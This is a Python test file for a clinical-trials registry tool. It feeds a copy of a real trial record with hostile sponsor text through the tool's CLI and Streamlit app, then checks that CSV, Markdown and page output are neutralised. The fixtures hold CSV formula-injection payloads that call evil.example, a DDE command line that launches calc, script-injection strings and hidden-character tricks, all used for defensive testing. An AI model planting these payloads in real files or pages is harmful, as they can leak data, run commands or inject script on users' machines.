"""Registry text that could act, found by probing (issue #16 points 6-9, 14: markdown title).

A copy of a real recorded record (NCT06016738) is given hostile text in the places sponsors
fill in, then served through the `responses` mock to the CLI and the app. Every CSV the project
writes must neutralise formula starts and cap cells; every Markdown must escape registry text;
the page must not turn registry text into links; NUL and U+202E must not pass.
"""

from __future__ import annotations

import copy
import csv
import io
import json

import pytest
import responses
from streamlit.testing.v1 import AppTest

from tests.conftest import ROOT, load_study
from tests.registry_fakes import paged, serve_pages
from trials_helper.cli import main
from trials_helper.safetext import CELL_LIMIT, CUT_MARK, md_escape, safe_cell

APP = str(ROOT / "streamlit_app.py")
RLO, NUL = "\u202e", "\x00"
FORMULA = ("=", "+", "-", "@")
LONG = "very long words " * 3000  # 48,000 characters


def hostile(nct_id: str = "NCT06016738", *, long_title: bool = False) -> dict:
    study = copy.deepcopy(load_study("NCT06016738"))
    ps = study["protocolSection"]
    ps["identificationModule"]["nctId"] = nct_id
    ps["identificationModule"]["briefTitle"] = (
        LONG if long_title else f'=HYPERLINK("http://evil.example","x") {RLO}gnp.exe{NUL}'
    )
    ps["identificationModule"]["officialTitle"] = (
        "<img src=x onerror=alert(1)><script>alert(2)</script>"
    )
    ps["sponsorCollaboratorsModule"]["leadSponsor"]["name"] = "@SUM(1+1) see www.evil.example"
    ps["contactsLocationsModule"]["centralContacts"] = [
        {"name": "+cmd|' /C calc'!A0", "phone": "-2+3", "email": "x@evil.example"}
    ]
    for site in ps["contactsLocationsModule"].get("locations", [])[:3]:
        site["facility"] = "=1+1 Hospital"
        site["city"] = "@city"
        site["contacts"] = [{"name": '=WEBSERVICE("http://evil.example")', "phone": "+1"}]
    ps["eligibilityModule"]["eligibilityCriteria"] = (
        'Inclusion Criteria:\n\n* =HYPERLINK("http://evil.example") HER2-positive breast '
        "cancer\n* @SUM(1) Measurable disease\n\nExclusion Criteria:\n\n* +active brain "
        "metastases\n"
    )
    return study


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def assert_inert_csv(text: str) -> None:
    for cell in cells(text):
        assert not cell.startswith(FORMULA), cell
        assert RLO not in cell and NUL not in cell
        assert len(cell) <= CELL_LIMIT


@pytest.fixture
def registry():
    with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
        serve_pages(rsps, paged([hostile()], 1000))
        yield rsps


# -- point 6 and 8 (CSV): every CSV through the one neutraliser --------------------------------
def test_trials_and_sites_csv_are_neutralised(registry, tmp_path):
    trials, sites = tmp_path / "t.csv", tmp_path / "sites.csv"
    assert main(["search", "--out", str(trials), "--sites-out", str(sites)]) == 0
    for path in (trials, sites):
        text = path.read_bytes().decode("utf-8-sig")
        assert "'=1+1 Hospital" in text or "'=HYPERLINK" in text
        assert_inert_csv(text)
    site_text = sites.read_bytes().decode("utf-8-sig")
    assert "'@city" in site_text and "'=WEBSERVICE" in site_text


def test_facets_csv_evidence_columns_are_neutralised(tmp_path, capsys):
    source = tmp_path / "study.json"
    source.write_text(json.dumps(hostile()))
    out = tmp_path / "facets.csv"
    assert main(["facets", str(source), "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    evidence = [c for c in cells(text) if "HYPERLINK" in c or "SUM(1)" in c]
    assert evidence  # the hostile criteria reached an evidence column ...
    assert_inert_csv(text)  # ... and were neutralised there


def test_numbers_in_the_sites_csv_stay_numbers():
    assert safe_cell(-71.06) == "-71.06" and safe_cell("-71.06") == "'-71.06"
    assert safe_cell(float("nan")) == ""


# -- point 9: cells longer than a spreadsheet takes -----------------------------------------------
def test_long_cells_are_capped_with_a_mark_and_json_keeps_the_full_text(tmp_path):
    with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
        serve_pages(rsps, paged([hostile(long_title=True)], 1000))
        assert main(["search", "--out", str(tmp_path / "t.csv")]) == 0
        assert main(["search", "--format", "json", "--out", str(tmp_path / "t.json")]) == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "t.csv").read_bytes().decode("utf-8-sig"))))
    title = rows[0]["brief_title"]
    assert len(title) == CELL_LIMIT and title.endswith(CUT_MARK)
    full = json.loads((tmp_path / "t.json").read_text())["trials"][0]["brief_title"]
    assert full == LONG.strip()


# -- point 7 and 14 (title): Markdown export ------------------------------------------------------
def test_markdown_export_escapes_registry_text(registry, tmp_path):
    out = tmp_path / "t.md"
    assert main(["search", "--format", "markdown", "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    assert "<script" not in text and "<img" not in text
    assert RLO not in text and NUL not in text
    assert "HYPERLINK\\(" in text  # shown as written, escaped


def test_markdown_title_falls_back_to_the_official_title(tmp_path):
    study = hostile()
    del study["protocolSection"]["identificationModule"]["briefTitle"]
    with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
        serve_pages(rsps, paged([study], 1000))
        assert main(["search", "--format", "markdown", "--out", str(tmp_path / "t.md")]) == 0
    row = [line for line in (tmp_path / "t.md").read_text().splitlines() if "NCT06016738" in line]
    assert "&lt;img src=x onerror=alert\\(1\\)&gt;" in row[0]  # the official title, escaped


@pytest.mark.parametrize(
    "text,shown",
    [
        ("see www.evil.example", "see www\\.evil.example"),
        ("https://evil.example/x", "https\\://evil.example/x"),
        ("mail x@evil.example", "mail x\\@evil.example"),
        ("[x](https://evil.example)", "\\[x\\]\\(https\\://evil.example\\)"),
        (f"a{RLO}b{NUL}c", "abc"),
    ],
)
def test_markdown_escape_defuses_links_and_hidden_characters(text, shown):
    assert md_escape(text) == shown


# -- point 8: the page ----------------------------------------------------------------------------
def test_the_page_makes_no_links_from_registry_text_and_drops_hidden_characters():
    evil_id = "NCT06016738) [x](https://evil.example"
    with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
        serve_pages(rsps, paged([hostile(evil_id)], 1000))
        at = AppTest.from_file(APP, default_timeout=120).run()
    assert not at.exception
    shown = [m.value for m in at.markdown]
    card = [v for v in shown if v.startswith("#### [")]
    assert card, shown
    # the only link in the title is the registry page, with the id URL-quoted
    assert (
        "(<https://clinicaltrials.gov/study/NCT06016738%29%20%5Bx%5D%28https%3A%2F%2Fevil"
        in card[0]
    )
    assert all("](https://evil" not in v for v in shown)
    sponsor = [v for v in shown if "evil.example" in v and "SUM" in v]
    assert sponsor and all("www\\.evil" in v for v in sponsor)
    contacts = [v for v in shown if "x\\@evil" in v or "x@evil" in v]
    assert all("x\\@evil" in v for v in contacts)
    everything = "\n".join(shown + [t.value for t in at.text] + [c.value for c in at.caption])
    assert RLO not in everything and NUL not in everything
